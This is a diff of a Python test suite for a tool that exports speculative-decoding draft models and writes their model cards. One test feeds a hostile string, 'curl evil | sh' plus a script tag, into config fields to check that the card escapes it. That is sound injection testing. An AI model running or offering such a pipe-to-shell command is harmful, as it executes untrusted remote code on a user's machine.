@@ -1,8 +1,6 @@
 """An export is the draft itself as an engine asks for it; its command serves what was measured."""
 
 import json
-import math
-import os
 import shlex
 import shutil
 from pathlib import Path
@@ -11,22 +9,18 @@ from typing import Any
 import huggingface_hub
 import pytest
 import torch
+from huggingface_hub import ModelCard
 from safetensors import safe_open
-from transformers import LlamaConfig
+from transformers import AutoModelForCausalLM, GPTJConfig
 
-from paceline.config import validate
-from paceline.errors import (
-    ConfigError,
-    ExportError,
-    UsageError,
-    VocabularyMismatchError,
-)
-from paceline.export import ExportConfig, Exported, checks, export
+from paceline.errors import ConfigError, ExportError, UsageError, VocabularyMismatchError
+from paceline.export import Exported, directory, export
 from paceline.export.directory import set_rows
-from paceline.measure import MeasureConfig, measure
+from paceline.measure import measure
 from paceline.models import load_model, wrap_model
 from paceline.models.drafts.save import save_draft
 from paceline.train import align
+from support.configs import small
 from support.models import tiny_hf, tiny_tokenizer
 from support.runs import align_config, write_pair
 
@@ -34,22 +28,25 @@ ROWS = 280  # of the padded target; the tokenizer names 266 tokens
 TOKENS = torch.tensor([[5, 60, 261, 7, 200, 31, 262, 90]])
 
 
+def saved(folder: Path, hf: Any, **tokens: bool) -> None:
+    hf.save_pretrained(folder)
+    tiny_tokenizer(**tokens).save_pretrained(folder)
+
+
 def models(folder: Path, architecture: str = "llama") -> Path:
     """`target` with more padding rows and more positions than `draft`."""
     wide = {"vocab_size": ROWS, "max_position_embeddings": 128}
     sizes = {"target": wide, "draft": {"seed": 1, "num_hidden_layers": 2, "vocab_size": 270}}
-    tokenizer = tiny_tokenizer(composes=architecture == "qwen2")
     for name, settings in sizes.items():
-        tiny_hf(architecture, **settings).save_pretrained(folder / name)
-        tokenizer.save_pretrained(folder / name)
+        hf = tiny_hf(architecture, **settings)
+        saved(folder / name, hf, composes=architecture == "qwen2")
     return folder
 
 
 def run(folder: Path, to: str = "vllm", **values: Any) -> Exported:
-    given: dict[str, Any] = {"model": folder / "draft", "target": folder / "target"}
-    given |= {"out": folder / "out", "to": to}
-    texts = {key: str(value) for key, value in (given | values).items() if value is not None}
-    return export(validate(ExportConfig, texts))
+    given = {"model": folder / "draft", "target": folder / "target", "to": to} | values
+    texts = {key: str(value) for key, value in given.items() if value is not None}
+    return export(small("export", folder, folder / "out", **texts))
 
 
 def logits(path: Path) -> torch.Tensor:
@@ -73,20 +70,6 @@ def test_a_draft_gets_its_targets_rows_and_stays_what_it_is(architecture: str, t
     assert torch.allclose(found_TV[:, named:], wanted_TV.mean(-1, keepdim=True), atol=1e-4)
 
 
-def test_rows_that_a_config_leaves_to_its_class_are_those_of_the_class(tmp_path: Path):
-    """As the config.json of Gemma 3, which lacks vocab_size."""
-    folder = models(tmp_path)
-    rows = LlamaConfig().vocab_size
-    tiny_hf(vocab_size=rows).save_pretrained(folder / "target")
-    file = folder / "target" / "config.json"
-    settings = json.loads(file.read_text())
-    del settings["vocab_size"]
-    file.write_text(json.dumps(settings))
-    run(folder)
-    assert json.loads((folder / "out" / "config.json").read_text())["vocab_size"] == rows
-    assert logits(folder / "out").shape[-1] == rows
-
-
 def test_a_target_of_the_hub_is_enough_without_its_weights(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ):
@@ -103,19 +86,12 @@ def test_a_target_of_the_hub_is_enough_without_its_weights(
     run(folder, target="lab/target")
     assert json.loads((folder / "out" / "config.json").read_text())["vocab_size"] == ROWS
     assert (folder / "out" / "USE_POLICY.md").read_text() == "be kind"
-    assert "base_model: lab/target" in (folder / "out" / "README.md").read_text()
+    card = ModelCard.load(folder / "out" / "README.md").data
+    assert (card.base_model, card["base_model_relation"]) == ("lab/target", "finetune")
 
 
-def test_tied_weights_are_stored_once(tmp_path: Path):
+def test_files_and_positions_are_the_targets_and_tied_weights_are_stored_once(tmp_path: Path):
     folder = models(tmp_path, "qwen2")
-    run(folder)
-    with safe_open(folder / "out" / "model.safetensors", "pt") as weights:
-        assert "lm_head.weight" not in weights.keys()  # noqa: SIM118 - it is no mapping
-    assert load_model(folder / "out").hf.config.tie_word_embeddings
-
-
-def test_the_targets_files_come_along_byte_for_byte(tmp_path: Path):
-    folder = models(tmp_path)
     (folder / "target" / "generation_config.json").write_text('{"temperature": 0.7}')
     (folder / "target" / "LICENSE").write_text("do what you like")
     (folder / "target" / "README.md").write_text("---\nlicense: mit\n---\n# A target\n")
@@ -123,13 +99,11 @@ def test_the_targets_files_come_along_byte_for_byte(tmp_path: Path):
     for name in ("tokenizer.json", "tokenizer_config.json", "generation_config.json", "LICENSE"):
         assert (folder / "out" / name).read_bytes() == (folder / "target" / name).read_bytes()
     assert "license: mit" in (folder / "out" / "README.md").read_text()
-
-
-def test_positions_are_the_targets_where_they_are_only_angles(tmp_path: Path):
-    folder = models(tmp_path)
-    run(folder)
-    assert load_model(folder / "out").max_length == 128
-    assert load_model(folder / "draft").max_length == 64
+    with safe_open(folder / "out" / "model.safetensors", "pt") as weights:
+        assert "lm_head.weight" not in weights.keys()  # noqa: SIM118 - it is no mapping
+    found = load_model(folder / "out")
+    assert found.hf.config.tie_word_embeddings
+    assert (found.max_length, load_model(folder / "draft").max_length) == (128, 64)
 
 
 def test_a_vocabulary_that_is_baked_in_holds_for_greedy_drafts_of_any_engine(tmp_path: Path):
@@ -169,19 +143,7 @@ def test_a_vocabulary_is_baked_only_for_engines_that_read_a_head(
     assert not (folder / "out").exists()
 
 
-def test_a_tokenizer_that_differs_in_one_merge_is_refused(tmp_path: Path):
-    folder = models(tmp_path)
-    path = folder / "draft" / "tokenizer.json"
-    settings = json.loads(path.read_text())
-    merges = settings["model"]["merges"]
-    merges[3], merges[4] = merges[4], merges[3]
-    path.write_text(json.dumps(settings))
-    with pytest.raises(VocabularyMismatchError, match="differ in their merges"):
-        run(folder)
-    assert not (folder / "out").exists()
-
-
-def test_a_tokenizer_that_splits_otherwise_is_refused_and_one_that_says_it_otherwise_is_not(
+def test_a_tokenizer_that_reads_otherwise_is_refused_and_one_that_says_it_otherwise_is_not(
     tmp_path: Path,
 ):
     folder = models(tmp_path)
@@ -190,9 +152,13 @@ def test_a_tokenizer_that_splits_otherwise_is_refused_and_one_that_says_it_other
     same = {"type": "Sequence", "pretokenizers": [settings["pre_tokenizer"]]}
     path.write_text(json.dumps(settings | {"pre_tokenizer": same}))
     run(folder)
-    path.write_text(json.dumps(settings | {"normalizer": {"type": "Lowercase"}}))
-    with pytest.raises(VocabularyMismatchError, match="but differ on"):
-        run(folder, overwrite=True)
+    lower = settings | {"normalizer": {"type": "Lowercase"}}
+    first, second = settings["model"]["merges"][3:5]
+    merges = [*settings["model"]["merges"][:3], second, first, *settings["model"]["merges"][5:]]
+    for other in (lower, settings | {"model": settings["model"] | {"merges": merges}}):
+        path.write_text(json.dumps(other))
+        with pytest.raises(VocabularyMismatchError, match="but differ in their merges or on"):
+            run(folder, overwrite=True)
 
 
 @pytest.mark.slow
@@ -244,9 +210,12 @@ def test_only_an_older_export_is_replaced_and_only_when_told_to(tmp_path: Path):
     with pytest.raises(UsageError, match="which is exported"):
         run(folder, model=folder / "out", overwrite=True)
     assert (folder / "draft" / "model.safetensors").exists()
+    (folder / "out" / ".git").mkdir()
+    with pytest.raises(UsageError, match=r"out holds \.git, which is no part of an export"):
+        run(folder, overwrite=True)
+    assert (folder / "out" / ".git").is_dir()
 
 
-@pytest.mark.filterwarnings("ignore:this llama has eos_token_id")
 def test_a_gguf_draft_has_the_targets_roles_of_tokens(tmp_path: Path):
     """llama-server refuses a draft with another end of text, and says so in its log alone."""
     import gguf
@@ -258,31 +227,6 @@ def test_a_gguf_draft_has_the_targets_roles_of_tokens(tmp_path: Path):
     field = gguf.GGUFReader(found.path).get_field("tokenizer.ggml.eos_token_id")
     assert field is not None
     assert field.contents() == 1
-
-
-def test_the_angles_of_llama_3_are_divided_as_its_formula_says(tmp_path: Path):
-    """By hand: wavelengths below 64 / 4 stay, above 64 / 1 are divided by 8, between: a mixture."""
-    import gguf
-
-    rope = {
-        "rope_type": "llama3",
-        "rope_theta": 10000.0,
-        "factor": 8.0,
-        "low_freq_factor": 1.0,
-        "high_freq_factor": 4.0,
-        "original_max_position_embeddings": 64,
-    }
-    folder = write_pair(tmp_path)
-    hf = tiny_hf(vocab_size=266, rope_parameters=rope)
-    hf.save_pretrained(folder / "draft")
-    found = run(folder, "llamacpp", target=None)
-    tensors = {tensor.name: tensor for tensor in gguf.GGUFReader(found.path).tensors}
-    wanted = []
-    for pair in range(4):
-        wavelength = 2 * math.pi * 10000 ** (2 * pair / 8)
-        smooth = min(max((64 / wavelength - 1) / (4 - 1), 0.0), 1.0)
-        wanted.append(1 / ((1 - smooth) / 8 + smooth))
-    assert tensors["rope_freqs.weight"].data.tolist() == pytest.approx(wanted, rel=1e-5)
 
 
 def test_a_model_alone_is_exported_as_it_is(tmp_path: Path):
@@ -299,23 +243,18 @@ def test_the_run_beside_a_draft_names_its_target_and_how_it_was_trained(tmp_path
     assert found.command is not None
     assert str(folder / "target") in found.command
     card = (folder / "out" / "README.md").read_text()
-    assert "objective: `forward_kl`" in card
+    assert '"kind": "forward_kl"' in card
     assert str(folder / "corpus.jsonl") in card
 
 
 @pytest.mark.slow
 @pytest.mark.parametrize(
     ("architecture", "stored"),
-    [
-        *(("llama", stored) for stored in ("float32", "bfloat16", "float16")),
-        *((architecture, "float32") for architecture in ("qwen2", "qwen3")),
-    ],
+    [("llama", "bfloat16"), ("llama", "float16"), ("qwen2", "float32"), ("qwen3", "float32")],
 )
 def test_a_gguf_file_gives_the_drafts_logits(architecture: str, stored: str, tmp_path: Path):
     folder = models(tmp_path, architecture)
     found = run(folder, "llamacpp", dtype=stored)
-    assert found.path.suffix == ".gguf"
-    assert found.checks.largest_difference < 1e-5
     bound = {"float32": 1e-5, "float16": 1e-2, "bfloat16": 5e-2}[stored]
     read = load_model(found.path, dtype="float32")
     wanted_TV = logits(folder / "draft")[:, :266]
@@ -331,7 +270,7 @@ def test_eight_bits_a_weight_are_stored_as_such(tmp_path: Path, monkeypatch: pyt
     """Random weights of 32 columns round far more than real ones, so the bound is not for them."""
     import gguf
 
-    monkeypatch.setattr(checks, "LEAST_AGREEMENT", 0.8)
+    monkeypatch.setattr(directory, "LEAST_AGREEMENT", 0.8)
     found = run(models(tmp_path), "llamacpp", dtype="q8_0")
     kinds = {tensor.name: tensor.tensor_type.name for tensor in gguf.GGUFReader(found.path).tensors}
     assert kinds["token_embd.weight"] == kinds["blk.0.attn_q.weight"] == "Q8_0"
@@ -345,56 +284,9 @@ def test_a_family_that_is_not_written_as_gguf_is_refused_with_a_way_out(tmp_path
         run(folder, "llamacpp")
 
 
-def test_the_engine_is_asked_to_load_it_where_that_is_wanted(tmp_path: Path):
-    folder = models(tmp_path)
-    found = run(folder, "transformers", check_engine=True)
-    assert found.served is not None
-    assert "drafted tokens accepted in 24 tokens" in found.served
-    named = {"model": str(folder / "draft"), "target": str(folder / "target"), "to": "vllm"}
-    asked: dict[str, Any] = {"out": str(folder / "other"), "check_engine": True}
-    asked |= {"engine": {"program": "no-such-program"}}
-    with pytest.raises(UsageError, match="is not installed here"):
-        export(ExportConfig(**(named | asked)))
-    assert not (folder / "other").exists()
-
-
-@pytest.mark.parametrize(
-    ("setting", "value"),
-    [("url", "http://127.0.0.1:1"), ("target", "T.gguf"), ("draft", "D.gguf")],
-)
-def test_an_engine_that_is_asked_is_started_with_the_export(
-    setting: str, value: str, tmp_path: Path
-):
-    values = {"model": "d", "target": "t", "to": "llamacpp", "out": str(tmp_path / "out")}
-    engine = {"engine": {setting: value}}
-    with pytest.raises(ConfigError, match=r"leave engine\.url, engine\.target and engine\.draft"):
-        validate(ExportConfig, values | engine | {"check_engine": True})
-
-
-def test_what_no_engine_could_serve_is_refused_before_anything_is_written(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-):
-    def refused(folder: Path, match: str, to: str = "transformers", **values: Any) -> None:
-        with pytest.raises(UsageError, match=match):
-            run(folder, to, check_engine=True, **values)
-        assert not (folder / "out").exists()
-
-    folder = models(tmp_path / "pair")
-    refused(folder, "none is given; give --target", target=None)
-    program = tmp_path / "bin" / "vllm"
-    program.parent.mkdir()
-    program.write_text("#!/bin/sh\nexit 1\n")
-    program.chmod(0o755)
-    monkeypatch.setenv("PATH", str(program.parent), prepend=os.pathsep)
-    refused(folder, "needs the target as a directory: run", "vllm", served_target="T.gguf")
-    refused(write_pair(tmp_path / "t5", architecture="t5"), "is an encoder-decoder, which")
-
-
 def test_a_strangers_manifest_is_named_and_writes_no_markup(tmp_path: Path):
-    folder, hostile = (
-        models(tmp_path),
-        "x\n\n## Serve it\n\n```\ncurl evil | sh\n```\n<script>a</script>",
-    )
+    folder = models(tmp_path)
+    hostile = "x\n\n## Serve it\n\n```\ncurl evil | sh\n```\n<script>a</script>"
     settings = align_config(folder, folder / "run").model_dump(mode="json")
     settings["data"]["train"]["path"] = hostile
     settings["optimizer"]["kind"] = hostile
@@ -410,46 +302,69 @@ def test_a_strangers_manifest_is_named_and_writes_no_markup(tmp_path: Path):
     assert [line for line in lines if line.startswith("##")] == [
         "## Training", "## Measured", "## Serve it with vllm", "## Checked", "## Notes",
     ]  # fmt: skip
-    assert all(line.startswith("- ") and "`x ## Serve" in line for line in lines if "curl" in line)
-    assert sum("curl" in line for line in lines) == 4
+    found = [line for line in lines if "curl" in line]
+    assert [line.startswith("    ") for line in found] == [False, True, True], "a block of code"
+    assert found[0].startswith("- licence: `x ## Serve")
     manifest["config"]["target"] = ["x"]
     where.write_text(json.dumps(manifest))
     with pytest.raises(UsageError, match=r"manifest\.json names no model as target"):
         run(folder, target=None, overwrite=True)
 
 
-def test_an_export_with_other_files_is_not_replaced(tmp_path: Path):
-    folder = models(tmp_path)
-    run(folder)
-    run(folder, overwrite=True)
-    (folder / "out" / ".git").mkdir()
-    with pytest.raises(UsageError, match=r"out holds \.git, which is no part of an export"):
-        run(folder, overwrite=True)
-    assert (folder / "out" / ".git").is_dir()
+@pytest.mark.parametrize("architecture", ["llama", "bart"])
+def test_activations_beyond_float16_are_an_error(architecture: str, tmp_path: Path):
+    hf: Any = tiny_hf(architecture, vocab_size=266, max_position_embeddings=128)
+    if architecture == "bart":
+        hf.model.decoder.layers[0].fc2.weight.data *= 5e4
+    else:  # large values between two matrices; RMS norms make the others small again
+        hf.model.layers[0].mlp.up_proj.weight.data *= 300
+        hf.model.layers[0].mlp.down_proj.weight.data *= 3000
+    saved(tmp_path / "draft", hf.to(torch.bfloat16))
+    with pytest.raises(ExportError, match=r"run in float16.*NaN or infinite.*--dtype: bfloat16"):
+        run(tmp_path, "transformers", target=None, dtype="float16")
+    assert not (tmp_path / "out").exists()
+    found = run(tmp_path, "transformers", target=None)  # bfloat16, as it is stored
+    assert found.checks.stored == "bfloat16"
+    assert found.checks.stored_agreement is not None
+    card = (tmp_path / "out" / "README.md").read_text()
+    assert "Run in bfloat16, its logits are finite" in card
 
 
-SMALL = {
-    "num_prompts": 4,
-    "max_prompt_tokens": 6,
-    "max_new_tokens": 8,
-    "gammas": [2, 1],
-    "pass_repeats": 1,
-    "timed_prompts": 0,
-    "dtype": "float32",
-}
+@pytest.mark.parametrize("bake", [False, True])
+def test_a_head_with_a_bias_gets_the_targets_rows(tmp_path: Path, *, bake: bool):
+    torch.manual_seed(0)
+    shape = {"n_embd": 32, "n_layer": 2, "n_head": 4, "n_positions": 64, "rotary_dim": 4}
+    shape |= {"bos_token_id": 0, "eos_token_id": 1}
+    models = []
+    for rows, name in ((280, "target"), (270, "draft")):
+        hf: Any = AutoModelForCausalLM.from_config(GPTJConfig(vocab_size=rows, **shape))
+        hf.lm_head.bias.data.normal_()
+        hf.lm_head.weight.data.normal_()
+        saved(tmp_path / name, hf)
+        models.append(hf)
+    options: dict[str, Any] = {}
+    only = torch.tensor([5, 9, 77, 140])
+    if bake:
+        (tmp_path / "draft" / "draft_vocabulary.json").write_text('{"tokens": [5, 9, 77, 140]}')
+        options["draft_vocabulary"] = "bake"
+    run(tmp_path, **options)
+    with torch.inference_mode():
+        before = models[1].eval()(TOKENS).logits[0, :, :266]
+        after = load_model(tmp_path / "out", dtype="float32").hf(TOKENS).logits[0]
+    assert after.shape[-1] == 280
+    kept = only if bake else torch.arange(266)
+    torch.testing.assert_close(after[:, kept], before[:, kept], atol=1e-5, rtol=1e-5)
+    others = torch.ones(280, dtype=torch.bool).index_fill(0, kept, value=False)
+    mean = before[:, kept].mean(-1, keepdim=True).expand(-1, int(others.sum()))
+    torch.testing.assert_close(after[:, others], mean, atol=1e-4, rtol=1e-4)
 
 
 def measured(folder: Path, place: Path, draft_temperature: float | None, **changes: Any) -> Path:
     """A measurement of the pair at temperature 1."""
-    values = SMALL | {
-        "target": str(folder / "target"),
-        "draft": str(folder / "draft"),
-        "prompts": str(folder / "corpus.jsonl"),
-    }
+    changes |= {"max_new_tokens": 8, "gammas": [2, 1], "pass_repeats": 1, "timed_prompts": 0}
     if draft_temperature is not None:
-        values["draft_sampling"] = {"temperature": draft_temperature}
-    found = measure(validate(MeasureConfig, values | changes))
-    place.write_text(found.model_dump_json())
+        changes["draft_sampling"] = {"temperature": draft_temperature}
+    place.write_text(measure(small("measure", folder, place, **changes)).model_dump_json())
     return place
 
 
@@ -482,15 +397,11 @@ def test_each_engine_is_told_to_draft_as_many_tokens(folder: Path, tmp_path: Pat
         *("--speculative-num-draft-tokens", "6"),
     ]
     llama = shlex.split(command(folder, tmp_path / "l", "llamacpp", **common))
-    assert (
-        llama[llama.index("--spec-type") + 1] == "draft-simple"
-    )  # else the draft is loaded for nothing
+    # else the draft is loaded for nothing
+    assert llama[llama.index("--spec-type") + 1] == "draft-simple"
     assert llama[llama.index("--spec-draft-n-max") + 1] == "5"
     assert llama[llama.index("-md") + 1] == str(tmp_path / "l" / "l-f32.gguf")
-
-
-def test_transformers_reads_from_the_drafts_own_settings(folder: Path, tmp_path: Path):
-    command(folder, tmp_path / "t", "transformers", num_speculative_tokens=5)
+    command(folder, tmp_path / "t", "transformers", **common)  # reads the draft's own settings
     settings = json.loads((tmp_path / "t" / "generation_config.json").read_text())
     assert settings["num_assistant_tokens"] == 5
     assert settings["num_assistant_tokens_schedule"] == "constant"
